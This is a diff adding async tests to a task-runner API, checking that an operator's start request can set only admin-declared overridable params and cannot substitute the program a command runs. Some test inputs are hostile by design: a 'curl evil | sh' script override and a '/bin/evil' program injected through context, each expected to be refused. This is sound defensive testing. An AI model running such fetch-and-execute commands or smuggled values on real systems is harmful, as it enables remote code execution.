@@ -207,7 +207,8 @@ async def test_a_start_sent_again_long_after_does_not_enqueue_a_second_copy(api,
 
 async def test_task_start_enqueues_a_run_command_with_merged_params(api, nc, org, make_task):
     task = await make_task(
-        command=["echo", "{{ greeting }}", "{{ name }}"], params={"greeting": "hello", "name": "task-default"}
+        command=["echo", "{{ greeting }}", "{{ name }}"], params={"greeting": "hello", "name": "task-default"},
+        overridable=[{"name": "name"}, {"name": "extra", "type": "integer"}],
     )
     reply = await api.call(
         "task", "start", {"id": task["id"], "params": {"name": "override", "extra": 3}, "context": {"who": "ops"}}
@@ -229,6 +230,57 @@ async def test_task_start_enqueues_a_run_command_with_merged_params(api, nc, org
     # the definition itself is not changed by a start's params
     stored = await api.call("task", "get", {"id": task["id"]})
     assert stored["params"] == {"greeting": "hello", "name": "task-default"}
+
+
+async def test_a_start_sets_only_the_params_its_task_declares_overridable(api, nc, org, make_task):
+    task = await make_task(
+        kind="module", module="shell", command=None, params={"script": "echo nightly backup"},
+        overridable=[{"name": "target", "type": "string", "pattern": "/srv/[a-z]+"},
+                     {"name": "mode", "choices": ["full", "incremental"]}, {"name": "days", "type": "integer"}],
+    )
+    # the code a module runs is the admin's: an operator's start may not replace it
+    error = await expect_error(403, api.call("task", "start", {"id": task["id"], "params": {"script": "curl evil | sh"}}))
+    assert "does not let a start set script" in error.message and "days, mode, target" in error.message
+    assert error.details == {"params": ["script"], "overridable": ["days", "mode", "target"]}
+    for params, said in (({"days": "7"}, "param 'days' must be an integer, got string"),
+                         ({"days": True}, "param 'days' must be an integer, got boolean"),
+                         ({"mode": "partial"}, 'param \'mode\' must be one of "full", "incremental"'),
+                         ({"target": "/etc"}, "param 'target' must match /srv/[a-z]+")):
+        error = await expect_error(400, api.call("task", "start", {"id": task["id"], "params": params}))
+        assert said in error.message, error.message
+    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0  # nothing refused was enqueued
+    await api.call("task", "start", {"id": task["id"], "params": {"target": "/srv/db", "mode": "full", "days": 7}})
+    command = await last_json(nc, RUNS, f"bd.{org}.run.default")
+    assert command["tasks"][0]["params"] == {"script": "echo nightly backup", "target": "/srv/db", "mode": "full",
+                                             "days": 7}
+
+
+async def test_a_commands_program_comes_from_its_params_never_from_a_starts_context(api, nc, org, make_task,
+                                                                                     make_batch):
+    task = await make_task(command=["{{ tool }}", "--to", "{{ target }}"], params={"target": "/srv"})
+    error = await expect_error(403, api.call("task", "start", {"id": task["id"], "context": {"tool": "/bin/evil"}}))
+    assert "its program '{{ tool }}' takes tool, which is not among its params" in error.message
+    batch = await make_batch(task_ids=[task["id"]])
+    await expect_error(403, api.call("batch", "start", {"id": batch["id"], "context": {"tool": "/bin/evil"}}))
+    assert await count_on(nc, RUNS, f"bd.{org}.run.default") == 0
+    # the admin's param names the program; the context still fills the other arguments
+    fixed = await make_task(command=["{{ tool }}", "{{ target }}"], params={"tool": "rsync"})
+    await api.call("task", "start", {"id": fixed["id"], "context": {"tool": "/bin/evil", "target": "/srv"}})
+    command = await last_json(nc, RUNS, f"bd.{org}.run.default")
+    assert command["tasks"][0]["params"] == {"tool": "rsync"} and command["context"]["target"] == "/srv"
+
+
+async def test_overridable_params_are_checked_when_the_task_is_defined(api):
+    for overridable, said in (
+        ([{"name": "a"}, {"name": "a"}], "`overridable` names a more than once"),
+        ([{"name": "a", "pattern": "("}], "`pattern` is not a regular expression"),
+        ([{"name": "a", "type": "integer", "pattern": "x"}], "`pattern` applies to strings only"),
+        ([{"name": "a", "type": "integer", "choices": [1, "two"]}], "choice 'two' must be an integer"),
+        ([{"name": "a b"}], "Expected `str` matching regex"),
+    ):
+        error = await expect_error(400, api.call("task", "create", {"name": "t", "command": ["true"],
+                                                                     "overridable": overridable}))
+        assert said in error.message, error.message
 
 
 async def test_run_command_is_a_snapshot_later_edits_do_not_change_it(api, nc, org, make_task):
